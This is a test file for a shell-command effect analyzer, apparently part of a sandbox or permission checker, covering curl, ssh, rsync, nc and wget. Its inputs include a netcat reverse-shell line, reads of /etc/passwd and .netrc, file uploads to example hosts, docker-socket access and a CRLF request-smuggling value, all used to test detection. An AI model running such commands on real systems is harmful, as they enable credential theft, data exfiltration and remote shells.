import { describe, expect, test } from 'vitest';
import { connections } from '../../src/facts/connection.js';
import { text, unknown } from '../../src/word.js';
import { describedOf, effectsOf } from './context.js';

/** The effects of a line without quotes, in a short form. */
function doing(line: string): readonly string[] {
  const [name = '', ...words] = line.split(' ');
  return effectsOf(name, words);
}

describe('curl', () => {
  test.each([
    ['curl -sS https://a.example/x', ['connect https://a.example/x']],
    ['curl a.example', ['connect a.example']],
    ['curl --url=http://a.example', ['connect http://a.example']],
    ['curl file:///etc/passwd', ['read /etc/passwd']],
    ['curl -T out.txt https://a.example', ['read out.txt', 'connect https://a.example']],
    ['curl -T out.txt file:///tmp/x', ['opaque']],
    ['curl -T out.txt --url file:///tmp/x', ['read out.txt', 'read /tmp/x', 'opaque']],
    ['curl scp://a.example/x', ['opaque']],
    ['curl sftp:/x', ['opaque']],
    ['curl -T - https://a.example', ['connect https://a.example']],
    ['curl -d @f http://a.example', ['read f', 'connect http://a.example']],
    ['curl -d a@f http://a.example', ['connect http://a.example']],
    ['curl --data-binary @- http://a.example', ['connect http://a.example']],
    ['curl --data-urlencode a@f http://a.example', ['read f', 'connect http://a.example']],
    ['curl --data-urlencode a=b@f http://a.example', ['connect http://a.example']],
    ['curl --data-raw @f http://a.example', ['connect http://a.example']],
    ['curl -H @f http://a.example', ['read f', 'connect http://a.example']],
    ['curl -F x=@f -F y=<g http://a.example', ['read f', 'read g', 'connect http://a.example']],
    ['curl -o out http://a.example', ['write out by argument', 'connect http://a.example']],
    ['curl -sSoout http://a.example', ['write out by argument', 'connect http://a.example']],
    ['curl -O http://a.example/x', ['connect http://a.example/x', 'write ./**']],
    ['curl --trace t -D h http://a.example', /write t .*write h /],
    ['curl -w %output{f} http://a.example', ['write f by argument', 'connect http://a.example']],
    ['curl -b jar http://a.example', ['read jar', 'connect http://a.example']],
    ['curl -b a=b http://a.example', ['connect http://a.example']],
    ['curl -E cert.pem:word http://a.example', ['read cert.pem', 'connect http://a.example']],
    ['curl -n http://a.example', ['connect http://a.example', 'read /home/me/.netrc']],
    ['curl -z f http://a.example', ['list f', 'connect http://a.example']],
    ['curl -L http://a.example', ['connect http://a.example', 'opaque']],
    ['curl --connect-to a:1:b.example:2 http://a.example', ['connect b.example', 'connect http://a.example']],
    [
      'curl --resolve a.example:80:10.0.0.1 http://a.example',
      ['connect 10.0.0.1', 'connect http://a.example'],
    ],
    ['curl -x proxy:8080 http://a.example', ['connect proxy:8080', 'connect http://a.example']],
  ] as const)('describes `%s`', (line, effects) => {
    if (effects instanceof RegExp) expect(doing(line).join(' ')).toMatch(effects);
    else expect(doing(line)).toStrictEqual(effects);
  });

  test.each([
    'curl -K cfg',
    'curl file:///etc/%70asswd',
    'curl file:///etc/passwd?x',
    'curl file:///etc/passwd#x',
    'curl file://127.0.0.1/etc/passwd',
    'curl file:/etc/passwd',
    'curl --url @f',
    'curl --proto-default file /etc/passwd',
    'curl -c jar http://a.example',
    'curl --create-dirs -o a/b http://a.example',
    'curl --config=cfg',
    'curl -T {a,b} https://a.example',
    'curl -T img[1-9].png https://a.example',
    'curl -o f#1 http://a.example/{x,y}',
    'curl http://{a,b}.example',
    'curl {file,http}://a/x',
    'curl file:///etc/{passwd,group}',
    'curl -F x=y;headers=@f http://a.example',
    'curl -F x=@"f" http://a.example',
    'curl -w @f http://a.example',
    'curl --engine ./e http://a.example',
    'curl --unix-socket /var/run/docker.sock http://a.example',
    'curl --ntlm-wb http://a.example',
    'curl --outpu f http://a.example',
    'curl -Q DELE http://a.example',
  ])('does not describe `%s`', (line) => {
    expect(doing(line)).toStrictEqual(['opaque']);
  });

  test('reads an unknown word as any option or URL', () => {
    expect(effectsOf('curl', [unknown('$x')])).toStrictEqual(['opaque']);
    expect(effectsOf('curl', ['--', unknown('$x/a', { start: 'http' })])).toStrictEqual(['opaque']);
    expect(effectsOf('curl', [unknown('$x', { start: 'http://a.example/' })])).toStrictEqual([
      'connect http://a.example/?',
    ]);
  });
});

describe('other network programs', () => {
  test.each([
    ['ssh host rm -rf build', ['connect host', 'opaque']],
    ['ssh -o ProxyCommand=./x host', ['code sh ./x', 'connect host', 'opaque']],
    ['ssh -oProxyCommand=./x host', ['code sh ./x', 'connect host', 'opaque']],
    ['ssh -L 8080:db:5432 host -N', ['net.listen 8080', 'connect host', 'opaque']],
    ['ssh -o Match=x host', ['opaque']],
    ['scp a host:b', ['read a/**', 'connect host', 'opaque', 'opaque']],
    ['rsync -a src dst', ['read src/**', 'write dst/**']],
    ['rsync -a --delete src dst', ['read src/**', 'write dst/**', 'delete dst/**']],
    ['rsync -e ./x src host:dst', ['run ./x', 'read src/**', 'connect host', 'opaque']],
    ['rsync src file:dst', ['read src/**', 'connect file', 'opaque']],
    ['rsync src', ['list src/**']],
    ['rsync -aL src dst', ['opaque']],
    ['rsync -y src dst', ['opaque']],
    ['rsync --backup-dir=../x src dst', ['opaque']],
    ['rsync -f dir-merge,/etc/x src dst', ['opaque']],
    // OpenSSH reads no options behind operands.
    ['ssh-keyscan a -v', ['connect a', 'connect -v']],
    ['scp a -v b', ['read a/**', 'read -v/**', 'write b/**', 'opaque']],
    ['ssh-keygen -t ed25519 -N x -f k', ['list k', 'write k by argument', 'write k.pub by argument']],
    ['ssh-keygen -y -f k', ['list k', 'read k']],
    ['ssh-keygen -p -y -f k', ['list k', 'read k', 'write k by argument']],
    ['ssh-keygen -D ./lib.so', ['opaque']],
    ['nc -lvp 4444', ['net.listen 4444']],
    ['nc a.example 9', ['connect a.example']],
    ['nc -e /bin/sh a.example 9', ['opaque']],
    ['nc -c sh a.example 9', ['opaque']],
    ['dig -f names', ['opaque']],
    ['nslookup', ['opaque']],
    ['wget -i list.txt', /^read list.txt .*connect \? opaque$/],
    ['wget -O f http://a.example', ['write f by argument', 'connect http://a.example', 'opaque']],
    ['wget -e http_proxy=x http://a.example', ['opaque']],
    ['wget --use-askpass=./x http://a.example', ['opaque']],
  ] as const)('describes `%s`', (line, effects) => {
    if (effects instanceof RegExp) expect(doing(line).join(' ')).toMatch(effects);
    else expect(doing(line)).toStrictEqual(effects);
  });
});

describe('the port of a connection', () => {
  test.each([
    ['telnet a.example', 23],
    ['telnet a.example 99', undefined],
    ['ssh-keyscan a.example', 22],
    ['ssh-keyscan -p 99 a.example', undefined],
    ['ssh -p 99 a.example', undefined],
    ['whois -p 99 -h a.example b', undefined],
    ['mysql -P 99 -h a.example', undefined],
  ])('is the usual one only where no word names another: `%s`', (line, port) => {
    const [name = '', ...words] = line.split(' ');
    const found = describedOf(name, words).effects.filter(({ kind }) => kind === 'connect');
    expect(found.map((effect) => ('port' in effect ? effect.port : undefined))[0]).toBe(port);
  });
});

describe('the URL of a connection', () => {
  const site = 'http://a.example/open';
  test.each([
    [`curl ${site}`, site],
    [`curl -X DELETE -o f -d x -u me:word ${site}`, site],
    [`curl ${site}/[1-3]`, undefined],
    [`curl -g ${site}/{a,b}`, undefined],
    [`curl --request-target /closed ${site}`, undefined],
    [`curl --path-as-is ${site}/../x`, undefined],
    [`curl -G -d closed=1 ${site}`, undefined],
    [`curl --url-query closed=1 ${site}`, undefined],
    [`curl -H host:b.example ${site}`, undefined],
    [`curl -Hx-original-url:/closed ${site}`, undefined],
    [`curl -A x ${site}`, undefined],
    [`curl --aws-sigv4 x ${site}`, undefined],
    [`curl -T f ${site}/`, undefined],
    [`curl -T f --url ${site}/`, undefined],
    [`curl -H host:b.example --url ${site}`, undefined],
  ])('is unknown if `%s` may request another one', (line, url) => {
    const [name = '', ...words] = line.split(' ');
    const found = describedOf(name, words).effects.flatMap((effect) =>
      effect.kind === 'connect' ? connections(effect) : [],
    );
    expect(found).toMatchObject([{ name: 'net.connect', host: 'a.example' }]);
    expect(found[0]?.url).toBe(url);
  });

  test.each(['GET /closed HTTP/1.1', 'GET\r\nX:'])('no method of a request holds %j', (method) => {
    expect(effectsOf('curl', ['-X', method, site])).toStrictEqual(['opaque']);
  });
});

describe('the host of an address', () => {
  test.each([
    'http:/a.example',
    'https:/a.example/x',
    'HTTP:/a.example',
    'http:///a.example',
    'a.example:/x',
  ])('is unknown in `%s`, which programs read differently', (address) => {
    const [connection] = connections({ kind: 'connect', to: text(address) });
    expect(connection).toMatchObject({ name: 'net.connect' });
    expect(connection).not.toHaveProperty('host');
  });
});
